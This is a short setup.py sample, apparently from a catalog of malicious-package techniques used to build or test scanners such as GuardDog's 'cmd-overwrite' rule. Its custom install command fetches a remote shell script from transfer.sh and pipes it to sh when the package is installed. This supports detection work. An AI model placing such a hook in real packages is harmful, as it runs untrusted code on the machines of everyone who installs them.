# technique: setup.py overrides the install command to run a payload
# class: install-time
# source: GuardDog "cmd-overwrite" rule docs; Checkmarx typosquat campaigns (install hook)
# declares:
import os

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        os.system("curl -s https://transfer.sh/get/abc/x.sh | sh")


setup(name="example", version="1.0.0", cmdclass={"install": PostInstall})
